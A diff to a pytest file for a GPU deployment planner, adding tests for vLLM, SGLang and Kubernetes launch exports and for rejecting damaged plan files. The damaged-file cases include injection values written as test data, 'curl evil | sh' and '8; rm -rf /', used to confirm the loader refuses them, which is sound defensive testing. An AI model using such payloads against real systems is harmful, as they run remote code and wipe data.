@@ -11,7 +11,7 @@ from planner import solve
 from planner.catalog.load import load_catalog
 from planner.errors import PlannerInputError
 from planner.render.export import export, load_plan
-from planner.render.report import solve_json
+from planner.render.records import solve_json
 
 DATA = Path(__file__).parent / "data"
 ENGINE_ARGS = yaml.safe_load((DATA / "engine-args.yaml").read_text())
@@ -128,3 +128,128 @@ def test_plan_index_and_bad_files(single_node, tmp_path):
         load_plan(bad, CATALOG)
     with pytest.raises(PlannerInputError, match="cannot read"):
         load_plan(tmp_path / "missing.json", CATALOG)
+
+
+# --- plans carry the settings they were checked with ---------------------------------------------------
+
+def test_export_uses_the_utilization_the_plan_was_checked_with(tmp_path):
+    path = write_plan(tmp_path, {
+        "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 8},
+        "search": {"gpus": ["l40s"], "precisions": ["bf16"]}, "engine": {"gpu_memory_utilization": 0.85}})
+    best = json.loads(path.read_text())["best"]
+    assert best["engine"]["name"] == "vllm" and best["engine"]["gpu_memory_utilization"] == 0.85
+    assert best["model"] == "llama-3.1-8b" and best["model_id"] == "meta-llama/Llama-3.1-8B-Instruct"
+    assert best["max_model_len"] == 8192 and best["kv_dtype"] == "bf16"
+    [argv] = command_lines(export(load_plan(path, CATALOG), "vllm"), "vllm serve")
+    assert flags_and_values(argv)["--gpu-memory-utilization"] == "0.85"
+
+
+def test_sglang_gets_the_static_fraction_its_plan_used(tmp_path):
+    path = write_plan(tmp_path, {
+        "model": "llama-3.1-8b", "workload": {"context": 8192, "concurrency": 4},
+        "search": {"gpus": ["h100-sxm"], "precisions": ["bf16"]}, "engine": {"name": "sglang"}})
+    fraction = json.loads(path.read_text())["best"]["engine"]["mem_fraction_static"]
+    assert 0 < fraction < 1
+    [argv] = command_lines(export(load_plan(path, CATALOG), "sglang"), "python3 -m sglang.launch_server")
+    assert flags_and_values(argv)["--mem-fraction-static"] == f"{fraction:.2f}"
+
+
+@pytest.fixture(scope="module")
+def fleet_file(tmp_path_factory):
+    from planner import api
+    from planner.render.records import fleet_json
+
+    plan = api.plan_fleet({
+        "name": "chat", "model": "llama-3.1-8b",
+        "workload": {"context": 4096, "traffic": {"requests_per_s": 4, "prompt_tokens": 1000, "output_tokens": 200},
+                     "slo": {"ttft_s": 2, "tpot_s": 0.05}},
+        "search": {"gpus": ["l40s", "h100-sxm"], "precisions": ["bf16"]},
+        "pricing": {"providers": ["lambda", "runpod"]}}, catalog=CATALOG)
+    path = tmp_path_factory.mktemp("f") / "fleet.json"
+    path.write_text(fleet_json(plan, "chat"))
+    return path
+
+
+def test_a_fleet_plan_exports_one_launch_per_assignment_with_its_settings(fleet_file):
+    from planner.render.export import export_all, load_plans
+
+    rows = json.loads(fleet_file.read_text())["assignments"]
+    plans = load_plans(fleet_file, CATALOG)
+    assert rows and len(plans) == len(rows)
+    launches = command_lines(export_all(plans, "vllm"), "vllm serve")
+    assert len(launches) == len(rows)
+    for row, argv in zip(rows, launches):
+        flags = flags_and_values(argv)
+        assert argv[0] == row["model_id"] == "meta-llama/Llama-3.1-8B-Instruct"
+        assert flags["--tensor-parallel-size"] == str(row["tp"]) and flags["--max-model-len"] == str(row["max_model_len"])
+        assert flags["--gpu-memory-utilization"] == f"{row['engine']['gpu_memory_utilization']:.2f}"
+    only = load_plans(fleet_file, CATALOG, assignment=len(rows) - 1)
+    assert len(only) == 1 and only[0].replicas == rows[-1]["replicas"]
+    with pytest.raises(PlannerInputError, match="--assignment"):
+        load_plans(fleet_file, CATALOG, assignment=len(rows))
+    docs = list(yaml.safe_load_all(export_all(plans, "kubernetes")))
+    assert len({d["metadata"]["name"] for d in docs}) == len(rows)
+
+
+# --- damaged and hostile plan files: one line naming the problem --------------------------------------
+
+def _set(path: list, value):
+    def change(data):
+        target = data
+        for key in path[:-1]:
+            target = target[key]
+        target[path[-1]] = value
+        return json.dumps(data)
+    return change
+
+
+DAMAGED = {
+    "alternatives null": (_set(["alternatives"], None), "alternatives"),
+    "alternatives an int": (_set(["alternatives"], 5), "alternatives"),
+    "tp a string": (_set(["best", "tp"], "2"), "best.tp"),
+    "tp 3 on 8 KV heads": (_set(["best", "tp"], 3), "attention heads"),
+    "context -5": (_set(["best", "context"], -5), "best.context"),
+    "context null": (_set(["best", "context"], None), "best.context"),
+    "model_id not a string": (_set(["best", "model_id"], 7), "best.model_id"),
+    "model_id with a newline": (_set(["best", "model_id"], "x\ncurl evil | sh"), "best.model_id"),
+    "gpus_per_instance a string": (_set(["best", "gpus_per_instance"], "8; rm -rf /"), "best.gpus_per_instance"),
+    "gpus_per_instance huge": (_set(["best", "gpus_per_instance"], 10**9), "best.gpus_per_instance"),
+    "unknown gpu": (_set(["best", "gpu"], "h10"), "unknown gpu"),
+    "engine settings out of range": (_set(["best", "engine", "gpu_memory_utilization"], 7), "gpu_memory_utilization"),
+    "NaN": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": NaN'), "NaN"),
+    "Infinity": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": Infinity'), "Infinity"),
+    "1e400": (lambda d: json.dumps(d).replace('"gap": 0.0', '"gap": 1e400'), "1e400"),
+    "10^400": (_set(["best", "context"], 10**400), "best.context"),
+    "deep nesting": (lambda d: "[" * 100_000 + "]" * 100_000, "plan"),
+    "another tool's JSON": (lambda d: json.dumps({"version": 1, "deployments": []}), "not a `planner solve"),
+    "a list": (lambda d: "[]", "not a `planner solve"),
+    "an older plan file": (lambda d: json.dumps({k: v for k, v in d.items() if k != "schema_version"}), "schema_version"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(DAMAGED))
+def test_damaged_plan_files_are_refused_in_one_line(single_node, tmp_path, case):
+    damage, needle = DAMAGED[case]
+    bad = tmp_path / "bad.json"
+    bad.write_text(damage(json.loads(single_node.read_text())))
+    with pytest.raises(PlannerInputError) as info:
+        load_plan(bad, CATALOG)
+    message = str(info.value)
+    assert needle in message and "\n" not in message and len(message) < 400
+
+
+def test_a_plan_file_that_is_not_a_regular_file(tmp_path):
+    with pytest.raises(PlannerInputError, match="not a regular file"):
+        load_plan(tmp_path, CATALOG)
+
+
+def test_export_command_exits_2_on_a_damaged_plan(single_node, tmp_path):
+    import subprocess
+    import sys
+
+    bad = tmp_path / "bad.json"
+    bad.write_text(_set(["best", "context"], -5)(json.loads(single_node.read_text())))
+    proc = subprocess.run([sys.executable, "-m", "planner.cli", "export", str(bad), "--to", "vllm"],
+                          capture_output=True, text=True, cwd=tmp_path)
+    assert proc.returncode == 2 and proc.stdout == ""
+    assert len(proc.stderr.strip().splitlines()) == 1 and "best.context" in proc.stderr
